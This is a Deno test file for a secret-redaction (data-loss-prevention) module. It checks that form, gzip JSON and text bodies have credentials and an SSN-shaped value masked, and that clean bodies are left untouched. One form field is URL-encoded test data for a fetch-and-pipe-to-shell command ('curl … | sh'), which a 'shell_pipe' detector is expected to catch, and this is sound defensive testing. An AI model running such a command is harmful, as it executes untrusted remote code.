import assert from "node:assert/strict";
import * as zlib from "node:zlib";
import { DETECTOR_NAMES } from "./detectors.ts";
import { redactBody, redactForm } from "./redact.ts";
import { compileScanner } from "./scanner.ts";
import { fakeSecrets } from "../../tests/support/dlp_samples.ts";

const all = compileScanner({ detectors: DETECTOR_NAMES });
const S = fakeSecrets(61);
const enc = (s: string) => new TextEncoder().encode(s);
const dec = (b: Uint8Array) => new TextDecoder().decode(b);

Deno.test("redactForm: only the pairs with findings change, and the form still parses", () => {
  const body = "user=ada+lovelace&aws_secret_access_key=" + encodeURIComponent(S.aws_secret_key) +
    "&note=caf%C3%A9&cmd=curl+-s+https%3A%2F%2Fx.io%2Fi+%7C+sh&token=" + S.github_token + "&flag";
  const r = redactForm(body, all);
  assert.deepEqual(r.findings.map((f) => f.detector), [
    "aws_secret_key",
    "shell_pipe",
    "github_token",
  ]);
  const before = new URLSearchParams(body);
  const after = new URLSearchParams(r.text);
  assert.deepEqual([...after.keys()], [...before.keys()]);
  assert.equal(after.get("aws_secret_access_key"), "[REDACTED:aws_secret_key]");
  assert.equal(after.get("cmd"), "[REDACTED:shell_pipe]");
  assert.equal(after.get("token"), "[REDACTED:github_token]");
  assert.ok(r.text.startsWith("user=ada+lovelace&aws_secret_access_key=%5BREDACTED")); // untouched bytes
  assert.ok(r.text.includes("&note=caf%C3%A9&") && r.text.endsWith("&flag"));
  assert.equal(redactForm("a=1&b=2", all).text, "a=1&b=2");
});

Deno.test("redactBody: JSON (gzip) comes back valid, decompressed and redacted", () => {
  const doc = { messages: [{ role: "user", content: `key ${S.openai_key}\nthanks` }], n: 1 };
  const gz = zlib.gzipSync(enc(JSON.stringify(doc)));
  const r = redactBody(gz, "application/json", "gzip", all, 1 << 20)!;
  assert.equal(r.changed, true);
  const parsed = JSON.parse(dec(r.body));
  assert.equal(parsed.messages[0].content, "key [REDACTED:openai_key]\nthanks");
  assert.equal(parsed.n, 1);
});

Deno.test("redactBody: text and form bodies; untouched when clean; null when unread", () => {
  const text = redactBody(enc(`ssn 536-22-1234 ok`), "text/plain", null, all, 1 << 20)!;
  assert.equal(dec(text.body), "ssn [REDACTED:us_ssn] ok");
  const form = redactBody(
    enc(`k=${S.stripe_key}`),
    "application/x-www-form-urlencoded",
    null,
    all,
    1 << 20,
  )!;
  assert.equal(dec(form.body), "k=%5BREDACTED%3Astripe_key%5D");
  const clean = enc('{"a":"hello"}');
  const r = redactBody(clean, "application/json", null, all, 1 << 20)!;
  assert.equal(r.changed, false);
  assert.equal(r.body, clean); // the same bytes, not a copy
  assert.equal(redactBody(enc(`id ${S.aws_access_key}`), "image/png", null, all, 1 << 20), null);
  assert.equal(
    redactBody(enc(`id ${S.aws_access_key} ` + "x".repeat(100)), "text/plain", null, all, 50),
    null,
  );
});
